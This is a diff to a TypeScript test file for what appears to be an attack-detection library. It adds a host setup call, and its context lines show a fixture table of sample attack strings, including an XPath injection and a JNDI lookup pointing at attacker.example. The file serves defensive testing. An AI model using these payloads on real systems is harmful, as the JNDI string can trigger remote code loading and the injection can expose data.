@@ -4,6 +4,7 @@ import { describe, test } from 'node:test';
 import { deflateSync, gzipSync } from 'node:zlib';
 import type { AttackClassName } from '@postern/core';
 import { inspectEvent } from './index.ts';
+import { provideNodeHost } from './node.ts';
 import { carriers } from './testing/carriers.ts';
 
 // One attack of each class that a text can show, in the words of its language; none depends on how it travels.
@@ -25,6 +26,8 @@ const payloads: readonly (readonly [AttackClassName, string])[] = [
   ['xpathi', "' or count(//user/*)=5 or 'a'='b"],
   ['jndi', '${jndi:ldap://attacker.example/a}'],
 ];
+
+provideNodeHost();
 
 describe('the same attack is the same detection however it travels', () => {
   for (const { name, wrap } of carriers)
